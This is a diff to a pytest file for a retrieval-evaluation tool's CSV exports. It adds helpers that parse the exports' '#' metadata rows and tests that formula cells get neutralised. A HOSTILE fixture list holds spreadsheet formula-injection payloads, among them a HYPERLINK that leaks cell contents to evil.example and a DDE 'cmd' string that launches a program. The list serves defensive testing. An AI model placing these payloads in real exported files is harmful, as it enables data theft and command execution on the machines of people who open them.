@@ -5,6 +5,7 @@ from __future__ import annotations
 import csv
 import io
 import json
+import re
 
 import numpy as np
 import pytest
@@ -73,8 +74,11 @@ def test_second_setting_is_scored(fake_engine: Engine, corpus: Corpus) -> None:
     assert comp.second == mean_scores([r.second for r in comp.rows])
     assert all(len(r.second_top) == 3 for r in comp.rows)
     text = per_query_csv(comp)
-    rows = list(csv.reader(io.StringIO(text)))
+    rows = _split(text)[1]
     assert rows[0][-1] == "b_delta_ndcg@3" and len(rows) == 5 and all(len(r) == len(rows[0]) for r in rows)
+    about = _about(text)
+    assert about["query_instruction"] == A.query_instruction and about["b_query_instruction"] == "query: "
+    assert about["b_document_prompt"] == "passage: " and about["k"] == 3 and about["include_prompt"] is True
 
 
 @pytest.mark.parametrize("settings, error", [
@@ -121,13 +125,79 @@ def test_top_k_breaks_ties_by_id_and_caps_k() -> None:
     assert got.tolist() == [[1, 3, 0, 2]]
 
 
+def _split(text: str) -> tuple[list[list[str]], list[list[str]]]:
+    """An export's leading ``#`` rows, and its table (header first)."""
+    rows = list(csv.reader(io.StringIO(text)))
+    n = next(i for i, row in enumerate(rows) if not row[0].startswith("#"))
+    return rows[:n], rows[n:]
+
+
+def _about(text: str) -> dict:
+    """The ``# key,value`` lines of an export, values decoded from JSON."""
+    return {key.removeprefix("# "): json.loads(value) for key, value in _split(text)[0]}
+
+
+def _table(text: str) -> list[dict[str, str]]:
+    header, *rows = _split(text)[1]
+    return [dict(zip(header, row)) for row in rows]
+
+
+HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"click me")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
+           "\t=1+1", "\r=1+1", "a # hash, a comma\nand a line starting\n# with a hash"]
+
+
+@pytest.fixture
+def hostile() -> Corpus:
+    docs = tuple(Document(f"h{i}", text, title=text if i == 0 else "") for i, text in enumerate(HOSTILE))
+    return Corpus("hostile", "Hostile", docs, (LabeledQuery("q", "=1+1 which?", {"h0": 1}),), task="qa")
+
+
+def _ranking(engine: Engine, corpus: Corpus, setting: Setting, query: str, k: int = 3) -> str:
+    ex = engine.explore(corpus, setting, query)
+    rows = top_rows(ex.instructed, ex.baseline, corpus.ids, len(corpus.ids), ex.relevant)
+    return ranking_csv(rows, corpus, setting, query, k)
+
+
 def test_ranking_csv(fake_engine: Engine, corpus: Corpus) -> None:
-    ex = fake_engine.explore(corpus, A, "apt install package")
-    rows = top_rows(ex.instructed, ex.baseline, corpus.ids, 3, {"d0": 2})
-    table = list(csv.DictReader(io.StringIO(ranking_csv(rows, corpus))))
-    assert [r["rank"] for r in table] == ["1", "2", "3"]
-    assert table[0]["text"] == corpus.documents[rows[0].doc_index].text
-    assert "text" not in ranking_csv(rows).splitlines()[0]
+    text = _ranking(fake_engine, corpus, A, "apt install package")
+    table = _table(text)
+    assert [r["rank"] for r in table] == [str(i) for i in range(1, 7)]
+    assert {r["text"] for r in table} == set(corpus.texts)
+    assert _about(text) == {"export": "ranking", "model": "minilm-offline", "corpus": "tiny",
+                            "query": "apt install package", "k": 3, "include_prompt": True,
+                            "query_instruction": A.query_instruction, "document_instruction": A.document_instruction,
+                            "query_prompt": A.prompt("query"), "document_prompt": A.prompt("document")}
+
+
+def test_exports_neutralise_formulas(fake_engine: Engine, hostile: Corpus) -> None:
+    setting = Setting("minilm-offline", "=cmd|' /C calc'!A0 ", "@x")
+    texts = [_ranking(fake_engine, hostile, setting, "=1+1 which?"),
+             per_query_csv(compare_settings(fake_engine, hostile, [setting], k=3))]
+    for text in texts:
+        cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
+        assert [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))
+                and not re.fullmatch(r"[+-]?\d+(\.\d+)?", c)] == []
+    ranking = _table(texts[0])
+    shown = {r["doc_id"]: r["text"] for r in ranking}
+    assert shown["h0"] == "'" + HOSTILE[0] and shown["h4"] == "'\t=1+1" and shown["h6"] == HOSTILE[6]
+    assert ranking[0]["title"] in ("", "'" + HOSTILE[0])
+    assert _about(texts[0])["query_instruction"] == "=cmd|' /C calc'!A0 "  # exact, trailing space kept
+
+
+def test_exports_round_trip_through_pandas(fake_engine: Engine, hostile: Corpus, tmp_path) -> None:
+    import pandas as pd
+
+    setting = Setting("e5-large-instruct", "Find the answer", "")
+    text = _ranking(fake_engine, hostile, setting, "a, query # with a hash")
+    path = tmp_path / "ranking.csv"
+    path.write_text(text, encoding="utf-8")
+    frame = pd.read_csv(path, comment="#", keep_default_na=False)
+    table = _table(text)
+    assert list(frame.columns) == list(table[0]) and len(frame) == len(table) == len(HOSTILE)
+    assert frame["text"].tolist() == [r["text"] for r in table]
+    assert frame["rank"].tolist() == list(range(1, len(HOSTILE) + 1)) and frame["score"].dtype == float
+    about = _about(text)
+    assert about["query_prompt"] == "Instruct: Find the answer\nQuery: " and about["query"] == "a, query # with a hash"
 
 
 @pytest.mark.parametrize("setting, query, note", [
